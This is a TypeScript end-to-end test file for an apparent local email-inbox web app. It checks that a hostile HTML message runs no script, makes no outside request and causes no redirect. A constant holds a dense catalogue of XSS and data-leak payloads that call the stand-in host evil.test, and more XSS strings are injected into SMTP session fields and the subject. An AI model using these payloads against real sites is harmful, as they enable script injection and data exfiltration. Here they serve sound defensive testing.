import assert from 'node:assert/strict';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { describe, it, type TestContext } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { mail } from '../support/mail.ts';
import { needs } from '../support/needs.ts';
import { emailIdOf, SmtpClient } from '../support/smtp-client.ts';
import { startBrowser } from './browser.ts';

/** Each by another way out: scripts, styles, pictures, frames, forms, links that connect ahead, redirects. */
const HOSTILE = `<!doctype html><html manifest="http://evil.test/manifest"><head>
  <base href="http://evil.test/base/"><meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
  <meta http-equiv="Content-Security-Policy" content="default-src *">
  <link rel="stylesheet" href="http://evil.test/css"><link rel="preconnect" href="http://preconnect.test"><LINK/rel="dns-prefetch"/href="http://dns.test">
  <link rel="prefetch" href="http://evil.test/prefetch"><link rel="icon" href="http://evil.test/icon"><link rel="modulepreload" href="http://evil.test/mp">
  <style>@import url("http://evil.test/import"); @font-face { font-family: x; src: url(http://evil.test/font) }
    body { background: url(http://evil.test/background); font-family: x } input[value^="a"] { background: url(http://evil.test/leak-a) }
    .cover { position: fixed; inset: 0; z-index: 2147483647 }</style>
  <script>document.title = "ran"; fetch("http://evil.test/script"); parent.postMessage("ran", "*"); top.location = "http://evil.test/top"</script>
  <script src="http://evil.test/script.js"></script><script type="speculationrules">{"prerender":[{"urls":["http://evil.test/prerender"]}]}</script>
  </head><body onload="top.location='http://evil.test/onload'" background="http://evil.test/bg"><div class="cover">
  <img src="http://evil.test/img" srcset="http://evil.test/srcset 2x" onerror="top.location='http://evil.test/onerror'"><img src=x onerror="top.document.title='ran'">
  <svg onload="top.document.title='ran'"><image href="http://evil.test/svg"/><use href="http://evil.test/use#x"/></svg><video src="http://evil.test/video" poster="http://evil.test/poster"></video>
  <audio src="http://evil.test/audio" autoplay></audio><input type="image" src="http://evil.test/input"><input value="abc" autofocus onfocus="top.document.title='ran'">
  <iframe src="http://evil.test/frame"></iframe><iframe srcdoc="&lt;link rel=preconnect href=http://srcdoc.test&gt;&lt;script&gt;top.document.title='ran'&lt;/script&gt;"></iframe>
  <object data="http://evil.test/object"></object><embed src="http://evil.test/embed"><frameset><frame src="http://evil.test/frameset"></frameset>
  <form id="f" action="http://evil.test/form" method="post"><input name="a" value="b"><button id="submit">Send</button></form>
  <a id="js" href="javascript:top.document.title='ran'">javascript</a><a id="data" href="data:text/html,<script>opener.top.document.title='ran'</script>">data</a>
  <a id="self" target="_top" href="javascript:document.title='ran'">top</a><math><mtext><script>top.document.title='ran'</script></mtext></math>
  <noscript><img src="http://evil.test/noscript"></noscript><template><img src="http://evil.test/template"></template>
  <p id="seen">seen</p></div></body></html>`;

function html(body: string | Buffer, subject: string): string {
  const header = [
    'From: shop@acme.test',
    'To: ada@example.com',
    `Subject: ${subject}`,
    'Content-Type: text/html; charset=utf-8',
  ];
  return mail(...header, '', body)
    .toString()
    .replaceAll(/\r?\n/g, '\r\n');
}

/** Where every name of the world leads that is not this machine's own: whoever connects is counted. */
async function startWorld(t: TestContext): Promise<{ readonly port: number; readonly connections: () => number }> {
  let connections = 0;
  const server = createServer(socket => {
    connections += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => void server.close());
  return { port: (server.address() as AddressInfo).port, connections: () => connections };
}

describe('a hostile message', { skip: needs('chromium') }, () => {
  it('runs nothing, asks nobody, and leads nowhere', async t => {
    const world = await startWorld(t);
    const args = [`--host-resolver-rules=MAP *.test 127.0.0.1:${world.port}`, '--disable-background-networking'];
    const { inbox, open } = await startBrowser(t, { args });
    const id = await inbox.send({ data: html(HOSTILE, '<img src=x onerror="document.title=\'ran\'">') });
    const page = await open(`/messages/${id}`);
    const requests: string[] = [];
    page.context().on('request', request => {
      if (!request.url().startsWith(inbox.url) && !request.url().startsWith('data:')) requests.push(request.url());
    });
    const popups: string[] = [];
    page.context().on('page', popup => popups.push(popup.url()));
    const frame = page.frameLocator('iframe');
    await frame.locator('#seen').waitFor();
    assert.equal(
      await page.getByRole('heading', { level: 1 }).textContent(),
      '<img src=x onerror="document.title=\'ran\'">',
    );
    for (const link of ['#js', '#data', '#self', '#submit'])
      await frame.locator(link).click({ force: true, timeout: 60_000 });
    await sleep(2_000);
    // A browser tells of those that the policy has stopped, too; nobody was connected to.
    assert.ok(requests.length > 5, 'it would ask');
    assert.equal(world.connections(), 0);
    assert.equal(page.url(), `${inbox.url}/messages/${id}`);
    assert.match(await page.title(), /^Inbox/);
    for (const popup of page.context().pages()) assert.doesNotMatch(await popup.title(), /ran/);
    assert.ok(
      popups.every(url => url === 'about:blank' || url === ''),
      popups.join(),
    );

    // By itself, where somebody opens its address.
    const alone = await open(`/api/messages/${id}/html`);
    await alone.locator('#seen').waitFor();
    await sleep(1_000);
    assert.equal(alone.url(), `${inbox.url}/api/messages/${id}/html`);
    assert.equal(await alone.evaluate('window.origin'), 'null');
    assert.equal(world.connections(), 0);
  });

  it('is asked for from elsewhere where a person wants it, and then only what is looked at', async t => {
    const world = await startWorld(t);
    const args = [`--host-resolver-rules=MAP *.test 127.0.0.1:${world.port}`, '--disable-background-networking'];
    const { inbox, open } = await startBrowser(t, { args });
    const id = await inbox.send({ data: html(HOSTILE, 'Hello') });
    const page = await open(`/messages/${id}`);
    await page.frameLocator('iframe').locator('#seen').waitFor();
    const asked: string[] = [];
    page.on('request', request => asked.push(new URL(request.url()).pathname));
    await page.getByLabel('Load pictures and styles from elsewhere').check();
    await page.frameLocator('iframe[src*="remote"]').locator('#seen').waitFor();
    await page.waitForTimeout(1_500);
    assert.ok(asked.includes('/img') || asked.includes('/srcset'), asked.join());
    assert.ok(world.connections() > 0);
    for (const path of ['/script', '/script.js', '/frame', '/object', '/embed', '/refresh', '/form'])
      assert.ok(!asked.includes(path), path);
    assert.match(await page.title(), /^Inbox/);
  });

  it('in what its client says in the session is text, too', async t => {
    const { inbox, open } = await startBrowser(t);
    const evil = `<img/src=x/onerror="document.title='ran'">`;
    const client = await SmtpClient.loggedIn(t, inbox.relay);
    await client.command(`EHLO ${evil}`, '250 ');
    const data = html('<p>Hi</p>', 'Hello');
    const to = [`"<b>${evil.replaceAll('"', '')}"@example.com`];
    const id = emailIdOf(await client.transact({ from: 'shop@acme.test', to, data }, '250 '));
    const page = await open(`/messages/${id}`);
    await page.getByRole('tab', { name: 'Session' }).click();
    await page.getByRole('cell', { name: `EHLO ${evil}` }).waitFor();
    await page.getByRole('cell', { name: 'RCPT TO:<"<b><img' }).waitFor();
    assert.equal(await page.locator('.said :is(img, b)').count(), 0);
    assert.match(await page.title(), /^Inbox/);
  });

  it('of ten megabytes is shown, and the page goes on', async t => {
    const { inbox, open } = await startBrowser(t);
    const line = `<p>${'All work and no play '.repeat(20)}</p>\r\n`;
    const id = await inbox.send({ data: html(line.repeat(Math.ceil(10_000_000 / line.length)), 'Long') });
    const page = await open(`/messages/${id}`);
    await page.frameLocator('iframe').locator('p').first().waitFor();
    await page.getByRole('tab', { name: 'Source' }).click();
    await page.getByText('more:').waitFor();
    await page.getByRole('tab', { name: 'Journey' }).click();
    await page.getByText('Stored', { exact: true }).waitFor();
  });
});
